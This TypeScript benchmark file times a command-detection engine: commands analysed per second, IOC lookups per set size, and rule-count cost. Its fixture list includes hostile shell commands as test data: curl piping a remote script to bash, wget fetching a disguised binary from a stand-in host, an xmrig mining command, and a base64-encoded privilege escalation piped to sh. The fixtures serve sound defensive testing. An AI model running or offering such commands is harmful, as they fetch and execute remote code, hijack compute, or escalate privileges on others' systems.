/**
 * Detection engine benchmarks: commands analysed per second (built-in rules, fixture-like commands), IOC lookup
 * time per query as the set grows (1e3, 1e5, 1e6 indicators), and cost per command as the rule count grows (10, 100,
 * 1000 generated rules). Wired into `npm run bench` by bench/run.ts.
 */
import { createEngine } from '../detectors/index.js';
import { IocSet } from '../detectors/ioc/ioc-set.js';
import type { CommandRecord } from '../forwarder/commands/record.js';
import { cpuMs } from './measure.js';

const COMMANDS = [
  'uptime',
  'df -h /',
  'sudo systemctl restart nginx',
  'sudo journalctl -u nginx --since today | tail -n 5',
  'curl -s http://localhost:8080/health',
  "echo 'reminder: never sudo su on prod' > notes.txt",
  'cat notes.txt',
  'sudo -l',
  'curl -sI https://github.com',
  'id',
  'sudo su -',
  'whoami',
  'cd /tmp',
  'curl -fsSL http://dl.bad-cdn.top/install.sh | bash',
  'wget -q http://203.0.113.66/x86_64/kworker -O .kw',
  'sudo -i',
  'ls -la /var/log',
  'grep -c . /etc/hostname   /etc/os-release',
  'xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k --donate-level 1 -B',
  'cat /proc/cpuinfo | grep -c processor',
  'echo c3VkbyBzdSAt | base64 -d | sh',
  'kubectl get pods -n kube-system -o wide',
  'for f in *.log; do gzip "$f"; done',
  'docker ps --format "{{.Names}}"',
  'git pull --rebase && npm ci && npm run build',
];

const IOCS = 'dl.bad-cdn.top\n203.0.113.66\nc2.evil-updates.example\nminer-drop[.]example\n';

function record(command: string, seq: number): CommandRecord {
  return {
    sessionId: 'bench',
    seq,
    command,
    user: 'ssm-user',
    host: null,
    cwd: '/tmp',
    root: false,
    time: null,
    source: 'raw',
    cancelled: false,
    incomplete: false,
    instanceId: null,
  };
}

/** Runs `fn` repeatedly for about `ms` milliseconds of CPU time; returns calls per CPU second. */
function rate(fn: (i: number) => void, ms = 1000): number {
  for (let i = 0; i < 200; i++) fn(i);
  let calls = 0;
  const start = cpuMs();
  while (cpuMs() - start < ms) {
    for (let i = 0; i < 100; i++) fn(calls++);
  }
  return calls / ((cpuMs() - start) / 1000);
}

function commandsPerSecond(options: Parameters<typeof createEngine>[0]): number {
  const { engine } = createEngine(options);
  const session = engine.session({ sessionId: 'bench' });
  return rate((i) => {
    session.analyze(record(COMMANDS[i % COMMANDS.length]!, i));
  });
}

interface IocRig {
  count: number;
  set: IocSet;
  heapMB: number;
  queries: [string, 'domain' | 'ipv4'][];
}

function iocRig(count: number): IocRig {
  globalThis.gc?.();
  const memory = () => process.memoryUsage().heapUsed + process.memoryUsage().arrayBuffers;
  const before = memory();
  const set = new IocSet(`bench-${count}`);
  for (let i = 0; i < count; i++) {
    if (i % 10 === 9) set.addIp(`${10 + (i % 200)}.${(i >> 8) & 255}.${i & 255}.0/24`);
    else set.addDomain(`h${i}.d${i % 9973}.example${i % 7}.com`);
  }
  globalThis.gc?.();
  const heapMB = (memory() - before) / 1e6;
  const queries: [string, 'domain' | 'ipv4'][] = [];
  for (let i = 0; i < 10_000; i++) {
    const n = (i * 7919) % Math.max(count, 1);
    queries.push(
      i % 3 === 0
        ? [`www.h${n}.d${n % 9973}.example${n % 7}.com`, 'domain']
        : i % 3 === 1
          ? [`cdn.miss${i}.example.org`, 'domain']
          : [`10.${i & 255}.${(i >> 3) & 255}.9`, 'ipv4'],
    );
  }
  return { count, set, heapMB, queries };
}

/**
 * ns per lookup for each set size. The sizes take turns, five rounds, and each keeps its fastest round: measured one
 * after the other, a slow spell of the shared machine landed on one size and made the ratio anything from 1.4 to 2.6.
 */
function iocLookupNs(counts: number[]): Map<number, { ns: number; heapMB: number }> {
  const rigs = counts.map(iocRig);
  const best = new Map<number, number>();
  for (let round = 0; round < 5; round++) {
    for (const { count, set, queries } of rigs) {
      const perSecond = rate((i) => {
        const [h, k] = queries[i % queries.length]!;
        set.lookupHost(h, k);
      }, 400);
      best.set(count, Math.max(best.get(count) ?? 0, perSecond));
    }
  }
  return new Map(rigs.map((r) => [r.count, { ns: 1e9 / best.get(r.count)!, heapMB: r.heapMB }]));
}

function generatedRules(n: number): { name: string; text: string }[] {
  return Array.from({ length: n }, (_, i) => ({
    name: `gen-${i}.yml`,
    text: `id: gen-${i}
title: Generated rule ${i}
severity: low
category: discovery
match:
  program: [tool${i}, other${i}]
  args: ['--secret-${i}*']
`,
  }));
}

export async function benchDetectors(): Promise<Record<string, number>> {
  const out: Record<string, number> = {};
  // warm the analysis and matching code once, so the first figure measured is not the JIT's
  commandsPerSecond({ builtin: false, builtinIocs: false, ruleTexts: generatedRules(10) });
  out['detectors.commandsPerSecond.builtin'] = Math.round(
    commandsPerSecond({ iocTexts: [{ name: 'iocs.txt', text: IOCS }] }),
  );
  for (const [count, { ns, heapMB }] of iocLookupNs([1e3, 1e5, 1e6])) {
    out[`detectors.iocLookupNs.${count.toExponential(0)}`] = Math.round(ns);
    out[`detectors.iocHeapMB.${count.toExponential(0)}`] = Math.round(heapMB);
  }
  for (const n of [10, 100, 1000]) {
    const perSecond = commandsPerSecond({ builtin: false, builtinIocs: false, ruleTexts: generatedRules(n) });
    out[`detectors.usPerCommand.rules${n}`] = Math.round((1e6 / perSecond) * 10) / 10;
  }
  return out;
}

if (process.argv[1]?.endsWith('detectors.mjs')) {
  benchDetectors().then((r) => console.log(JSON.stringify(r, null, 2)));
}
